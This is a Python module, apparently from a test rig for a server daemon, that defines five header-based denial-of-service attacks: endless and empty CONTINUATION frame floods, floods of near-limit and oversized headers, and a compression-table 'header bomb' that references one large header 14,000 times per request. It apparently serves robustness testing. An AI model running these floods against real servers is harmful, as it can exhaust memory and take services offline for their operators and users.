"""Headers that are endless, too many, too large, or larger than they look."""

from rig.attack import Steps, attack
from rig.patterns import flood
from rig.target import Target
from wire import calls
from wire.frames import CONTINUATION, END_HEADERS, END_STREAM, FRAME_BYTES, HEADERS, frame, opening
from wire.headers import DYNAMIC, call, indexed, literal

# All headers of a request together, as the daemon allows them, counts 32 bytes for each beside its text.
ALLOWED_BYTES = 15_000
FRAMES = 1_000


def _many(size: int) -> bytes:
    """Short headers that take so many bytes."""
    one = literal(b"x-padding-of-some-length", b"v" * 40)
    return one * (size // len(one))


def _split(stream: int, block: bytes, flags: int) -> bytes:
    """A block of headers in as many frames as it needs."""
    pieces = [block[place : place + FRAME_BYTES] for place in range(0, len(block), FRAME_BYTES)]
    kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
    frames = [
        frame(kind, (flags if kind == HEADERS else 0) | (END_HEADERS if index == len(pieces) - 1 else 0), stream, piece)
        for index, (kind, piece) in enumerate(zip(kinds, pieces))
    ]
    return b"".join(frames)


@attack("continuation-flood", "Sends the headers of one request in CONTINUATION frames that never end.")
def continuation_flood(target: Target) -> Steps:
    begin = frame(HEADERS, 0, 1, call(calls.APPEND))
    yield from flood(target, [opening() + begin], repeated=frame(CONTINUATION, 0, 1, _many(FRAME_BYTES)) * 64)


@attack("empty-continuation", "Sends CONTINUATION frames without a byte in them, so that no limit of size is met.")
def empty_continuation(target: Target) -> Steps:
    begin = frame(HEADERS, 0, 1, call(calls.APPEND))
    yield from flood(target, [opening() + begin], repeated=frame(CONTINUATION, 0, 1) * 10_000)


@attack("header-flood", "Sends request after request with 15,000 bytes of headers, just below the limit.")
def header_flood(target: Target) -> Steps:
    block = call(calls.STATUS, _many(ALLOWED_BYTES // 2))
    requests = (_split(number, block, END_STREAM) for number in range(1, 2 * FRAMES, 2))
    yield from flood(target, [opening() + b"".join(requests)])


@attack("oversized-headers", "Sends request after request with 64 KiB of headers, above the limit.")
def oversized_headers(target: Target) -> Steps:
    block = call(calls.STATUS, _many(4 * FRAME_BYTES))
    requests = (_split(number, block, END_STREAM) for number in range(1, 200, 2))
    yield from flood(target, [opening() + b"".join(requests)])


@attack("header-bomb", "Puts a large header into the connection's table and names it 14,000 times in each request.")
def header_bomb(target: Target) -> Steps:
    filled = call(calls.STATUS, literal(b"x-bomb", b"b" * 3_900, remember=True))
    bomb = call(calls.STATUS, indexed(DYNAMIC) * 14_000)
    requests = [frame(HEADERS, END_HEADERS | END_STREAM, 1, filled)]
    requests += [frame(HEADERS, END_HEADERS | END_STREAM, number, bomb) for number in range(3, 200, 2)]
    yield from flood(target, [opening() + b"".join(requests)])
